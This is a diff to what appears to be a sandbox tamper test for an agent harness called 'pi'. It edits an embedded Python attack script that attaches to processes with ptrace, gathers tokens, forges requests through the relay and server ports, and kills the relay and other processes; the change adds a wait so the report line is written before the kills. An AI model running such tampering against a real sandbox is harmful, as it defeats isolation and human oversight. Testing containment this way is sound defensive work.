@@ -16,7 +16,7 @@ REPORT = "tamper-{marker}.txt"  # in the work folder: under pi the command outli
 RELAY_PORT = INSIDE_PROXY_PORT  # where pi's relay listens in its sandbox
 
 ATTACK = r"""python3 - <<'EOF' 2>&1 | tee {report}
-import ctypes, glob, json, os, signal, socket
+import ctypes, glob, json, os, signal, socket, time
 libc = ctypes.CDLL(None, use_errno=True)
 PTRACE_ATTACH, PTRACE_DETACH = 16, 17
 me, shell = os.getpid(), os.getppid()
@@ -88,8 +88,16 @@ def forge(port, token):
 for port in ({relay}, {server}):
     for token in sorted(tokens):
         say("forged request through port %d" % port, forge(port, token))
-# said before the kills: killing the relay can end the sandbox's init, and every process with it, at once
+# said before the kills, and waited for in the report: killing the relay can end the sandbox's init, and every
+# process with it (tee too) at once, so the line must be in the file, not only in the pipe to tee
 print("tamper done", flush=True)
+for _ in range(1000):
+    try:
+        if "tamper done" in open("{report}").read():
+            break
+    except OSError:
+        pass
+    time.sleep(0.01)
 for pid in targets:
     if pid == parent(shell):
         continue  # the shell's parent (pi, under pi) is killed last, by the shell
